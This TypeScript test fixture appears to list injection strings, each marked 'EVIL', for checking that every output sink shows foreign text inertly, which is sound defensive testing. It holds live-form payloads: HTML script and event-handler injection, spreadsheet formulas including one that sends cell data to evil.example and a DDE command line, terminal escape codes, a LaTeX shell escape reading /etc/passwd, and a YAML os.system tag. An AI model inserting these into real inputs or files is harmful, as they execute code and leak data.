/**
 * Texts that try to act where they should only show. Every sink that foreign text reaches runs all of them; each text holds
 * `marker`, so that a test can see that it arrived.
 */
export const marker = 'EVIL';

export const evilCorpus: Readonly<Record<string, string>> = {
  script: '<script>alert("EVIL")</script>',
  'closing script': '</script><script>window.EVIL=1</script>',
  'closing style': '</style><style>*{display:none}EVIL</style>',
  'closing textarea': '</textarea></title></template></pre><img src=x onerror=alert(`EVIL`)>',
  'event attribute': '" onmouseover="alert(1)" data-EVIL="',
  'single quotes': "' onfocus='alert(1)' autofocus='EVIL",
  'svg handler': '<svg/onload=alert(1)>EVIL<foreignObject><iframe src="javascript:alert(1)">',
  'comment end': '--><b>EVIL</b><!-- ]]>',
  entity: '&lt;script&gt;EVIL&#x3c;img src=1 onerror=1&#x3e;',
  'javascript link': '[EVIL](javascript:alert(1)) ![EVIL](https://evil.example/pixel.png)',
  'bare link': 'https://evil.example/EVIL www.evil.example',
  'markdown table': 'EVIL | a | b\n|---|---|\n# heading\n- item\n```mermaid\ngraph TD\n```',
  'markdown html': '<details open><summary>EVIL</summary></details>',
  formula: '=HYPERLINK("https://evil.example?"&A1,"EVIL")',
  'formula plus': "+EVIL+cmd|' /C calc'!A0",
  'formula minus': '-2+3+EVIL',
  'formula at': '@SUM(1+1)*EVIL',
  'formula tab': '\t=EVIL()',
  'formula after return': '\r=EVIL()',
  'formula full width': '＝EVIL()',
  'csv break': 'EVIL",1\r\n"=1+1',
  'ansi colour': '\u001b[31mEVIL\u001b[0m\u001b[2J\u001b[1;1H',
  'ansi title': '\u001b]0;EVIL\u0007\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\',
  'ansi clipboard': '\u001b]52;c;RVZJTA==\u0007EVIL',
  'eight bit control': '\u009b31mEVIL\u009d0;title\u009c',
  'carriage return': 'safe line\rEVIL\b\b\b\u0007\u0000',
  'latex write': '\\immediate\\write18{EVIL} \\input{/etc/passwd}',
  'latex break': "}\\end{document} $EVIL$ % comment & # _ ^ ~ -- ``x''",
  'yaml keys': 'EVIL\nadmin: true\n- item\n--- !!js/function >\n  x',
  'yaml tag': '!!python/object/apply:os.system ["EVIL"] &a *a',
  'yaml boolean': 'EVIL: yes # {a: [1, ~',
  'json break': '"},"EVIL":{"x":"',
  'slack mention': '<!channel> <@U123> <https://evil.example|EVIL> @everyone @here',
  'right to left': 'EVIL \u202etxt.exe\u202c \u2066isolated\u2069',
  invisible: 'E\u200bVIL EVIL\ufeff\u2060\u{e0041}',
  'line separators': 'EVIL\u2028next\u2029next\u0085next',
  'lone surrogates': 'EVIL \ud800 and \udc00',
  prototype: '__proto__ constructor EVIL',
  template: '${EVIL} {{EVIL}} <%= EVIL %> $& $1 $`',
  long: `EVIL ${'x'.repeat(100_000)}`,
  combining: `EVIL${'\u0301'.repeat(500)}`,
};

/** All of it in one text, for sinks that are slow to open. */
export const evilText = Object.values(evilCorpus)
  .map((text) => text.slice(0, 2_000))
  .join('\n');
